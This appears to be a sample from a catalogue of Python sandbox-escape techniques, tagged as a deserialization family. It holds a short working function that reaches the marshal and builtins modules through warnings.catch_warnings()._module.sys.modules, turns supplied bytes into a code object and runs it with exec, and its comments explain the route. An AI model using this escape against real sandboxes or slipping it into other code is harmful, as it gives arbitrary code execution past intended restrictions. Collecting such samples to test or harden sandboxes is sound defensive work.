# family: deser
# Escape: marshal is a built-in module always loaded (importlib uses it); reached via
# warnings.catch_warnings()._module.sys.modules. marshal.loads builds a code object from bytes and the
# builtins module (same route) runs it with exec.
import warnings


class Blob:
    _module = None


def tool(payload: bytes):
    modules = warnings.catch_warnings()._module.sys.modules
    code = modules["marshal"].loads(payload)
    return modules["builtins"].exec(code)
